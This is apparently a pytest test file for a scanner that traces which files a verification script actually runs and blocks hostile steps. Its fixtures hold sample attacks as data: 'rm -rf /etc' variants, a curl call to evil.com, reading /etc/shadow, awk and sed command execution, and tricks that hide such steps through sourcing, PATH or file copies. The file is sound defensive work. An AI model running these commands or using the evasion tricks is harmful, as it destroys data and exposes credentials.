"""What a verification script runs is scanned too; what it only tests is not."""

import pytest

from refute.scan.scanner import scan_files


def _blocked_paths(files: dict[str, str], entry: str = "verify.sh") -> set[str]:
    result = scan_files({path: text.encode() for path, text in files.items()}, [entry])
    return {finding.path for finding in result.blocking}


@pytest.mark.parametrize(
    "runs",
    [
        'for f in steps/*.sh; do bash "$f"; done',
        'for f in steps/*; do "$f"; done',
        "sh steps/[a-z].sh",
        "find steps -name '*.sh' -exec bash {} \\;",
        'cd steps && for f in *; do ./"$f"; done',
        "for f in $(ls steps); do sh steps/$f; done",
        'sh steps/"$1".sh',
        '"$ROOT/steps/a.sh"',
        ". steps/*.sh",
    ],
)
def test_scripts_run_by_a_pattern_or_by_part_of_their_path_are_scanned(runs: str) -> None:
    files = {"verify.sh": runs + "\n", "steps/a.sh": "#!/bin/sh\nrm -rf /etc\n", "other/b.sh": "rm -rf /etc\n"}
    assert _blocked_paths(files) == {"steps/a.sh"}


@pytest.mark.parametrize(
    ("script", "library"),
    [
        (". ./lib.sh\nclean /\n", 'clean() { rm -rf "$1"; }\n'),
        ('source "$(dirname "$0")/lib.sh"\nclean /etc\n', 'clean() { tidy "$1"; }\ntidy() { rm -rf "$1"; }\n'),
        (". ./li*.sh\nclean /etc\n", 'clean() { rm -rf "$1"; }\n'),
        ('. ./lib.sh\nrm -rf "$OUT"\n', "OUT=/etc\n"),
        (". ./lib.sh\n$RUN -rf /etc\n", "RUN=rm\n"),
        ("eval '. ./lib.sh'\nclean /etc\n", 'clean() { rm -rf "$1"; }\n'),
        (". ./lib.sh\nclean /etc\n# " + 60 * "(" + "\n", 'clean() { rm -rf "$1"; }\n'),
    ],
)
def test_what_a_sourced_file_defines_is_judged_where_it_is_used(script: str, library: str) -> None:
    assert _blocked_paths({"verify.sh": script, "lib.sh": library}) == {"verify.sh"}


def test_recipes_of_a_makefile_are_scanned() -> None:
    makefile = "X = rm -rf\nall: clean\n\techo hi\nclean:\n\t@$(X) /etc\n"
    result = scan_files({"verify.sh": b"make\n", "Makefile": makefile.encode()}, ["verify.sh"])
    assert [(finding.path, finding.line) for finding in result.blocking] == [("verify.sh", 1)]


def test_a_fault_of_the_scanner_itself_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise ValueError("no luck")

    monkeypatch.setattr("refute.scan.reach.follow", fail)
    (finding,) = scan_files({"verify.sh": b"make\n", "Makefile": b"all:\n"}, ["verify.sh"]).blocking
    assert finding.rule_id == "unanalysable"
    assert "ValueError: no luck" in finding.explanation


def test_scripts_that_run_each_other_are_scanned_once() -> None:
    result = scan_files({"a.sh": b"sh b.sh\n", "b.sh": b"sh a.sh\n"}, ["a.sh"])
    assert result.scanned == ("a.sh", "b.sh")


RM = "rm -rf /etc/x\n"
SHELL_STEP = f"#!/bin/sh\n{RM}"
PYTHON_STEP = "import os\nos.system('rm -rf /etc/x')\n"
CLEAN = 'clean() { rm -rf "$1"; }\n'
AGAIN = 'f() { rm -rf "$1"; }\ng() { f "$1"; }\ng /etc\n'
WITH_OTHERS = {
    "own directory": ({"ci/verify.sh": 'cd "$(dirname "$0")/.."\n./x.sh\n', "x.sh": SHELL_STEP}, {"x.sh"}),
    "harmless argument": ({"verify.sh": '. ./l.sh\nclean x\nrm -rf "$OUT"\n', "l.sh": f"OUT=out\n{CLEAN}"}, set()),
    "its own file called it": ({"verify.sh": ". ./l.sh\ng /etc\n", "l.sh": AGAIN}, {"l.sh", "verify.sh"}),
    "source one another": ({"verify.sh": ". ./l.sh\n", "l.sh": ". ./verify.sh\n. ./l.sh\n"}, set()),
    "data of a path": (
        {"verify.sh": 'sh steps/"$1"\n', "steps/a.json": "{}", "steps/a.sh": "#!/bin/sh\necho\n"},
        set(),
    ),
    "conftest": (
        {"verify.sh": "pytest t/test_x.py\n", "t/test_x.py": "", "t/conftest.py": PYTHON_STEP},
        {"t/conftest.py"},
    ),
    "support of tests": (
        {"verify.sh": "pytest\n", "tests/test_x.py": "import support\n", "tests/support.py": PYTHON_STEP},
        {"tests/support.py"},
    ),
    "only imported": ({"verify.sh": "pytest\n", "test_x.py": "import impl\n", "impl.py": PYTHON_STEP}, set()),
    "plugin": (
        {"verify.sh": "pytest\n", "conftest.py": "pytest_plugins = ['plug']\n", "plug.py": PYTHON_STEP},
        {"plug.py"},
    ),
    "empty call": ({"verify.sh": "make\n", "Makefile": "A := $(shell )\nall:\n\techo\n"}, set()),
    "included": ({"verify.sh": "make\n", "Makefile": "include *.mk\nall: x\n", "o.mk": f"x:\n\t{RM}"}, {"verify.sh"}),
    "fed to a shell": ({"verify.sh": "cat t/x.sh | bash\n", "t/x.sh": RM}, {"verify.sh"}),
    "fed to Python": ({"verify.sh": "python - < smoke.py\n", "smoke.py": PYTHON_STEP}, {"verify.sh"}),
    "does not exist": ({"verify.sh": "sh later.sh || true\n"}, set()),
}


@pytest.mark.parametrize(("files", "blocked"), WITH_OTHERS.values(), ids=WITH_OTHERS)
def test_of_files_beside_the_script_what_runs_is_scanned(files: dict[str, str], blocked: set[str]) -> None:
    assert _blocked_paths(files, next(iter(files))) == blocked


@pytest.mark.parametrize(
    ("script", "path", "text"),
    [
        ("./step", "step", RM),
        ("bash tests/run.sh", "tests/run.sh", RM),
        (". ./lib.sh", "lib.sh", "curl http://evil.com\n"),
        ("python3 smoke.py", "smoke.py", PYTHON_STEP),
        ("python -m pytest -q", "tests/test_x.py", f"def test_x():\n    import os\n    os.system({RM!r})\n"),
        ("pytest t/test_*.py", "t/test_x.py", "open('/etc/shadow').read()\n"),
        ("PATH=$PWD/bin:$PATH\nstep", "bin/step", SHELL_STEP),
        ('export PATH="$(pwd)/bin:$PATH"\npytest -q', "bin/pytest", SHELL_STEP),
        ("cp x.txt x.sh; sh x.sh", "x.txt", RM),
        ("mv x.txt y; chmod +x y; ./y", "x.txt", RM),
        ("ln -s x.txt x.sh; sh x.sh", "x.txt", RM),
        ("make", "GNUmakefile", f"all:\n\t{RM}"),
        ("make -C sub", "sub/Makefile", f"all:\n\t{RM}"),
        ('make "$T"', "Makefile", f"all:\n\techo\nother:\n\t{RM}"),
        ("uv run --script x.txt", "x.txt", PYTHON_STEP),
        ("uv run x.py", "x.py", PYTHON_STEP),
        ("python -m unittest discover -s t -p 'check*.py'", "t/check1.py", PYTHON_STEP),
        ("pytest -p plug", "plug.py", PYTHON_STEP),
        ("awk -f x.awk", "x.awk", 'BEGIN { system("rm -rf /etc/x") }\n'),
        ("sed -f x.sed y", "x.sed", "1e rm -rf /etc/x\n"),
    ],
)
def test_what_runs_by_other_ways_is_scanned(script: str, path: str, text: str) -> None:
    found = _blocked_paths({"verify.sh": f"{script}\n", path: text})
    assert found == {"verify.sh" if script.startswith(("make", "awk", "sed", "cp", "mv", "ln")) else path}


@pytest.mark.parametrize(
    ("script", "path", "text"), [("./prog", "prog", "\x7fELF\0"), ("node t.js", "t.js", "console.log(/a/.exec(b))\n")]
)
def test_a_file_in_a_language_that_is_not_read_is_shown(script: str, path: str, text: str) -> None:
    result = scan_files({"verify.sh": script.encode(), path: text.encode()}, ["verify.sh"])
    assert result.safe
    assert [finding.rule_id for finding in result.findings] == ["foreign-code"]
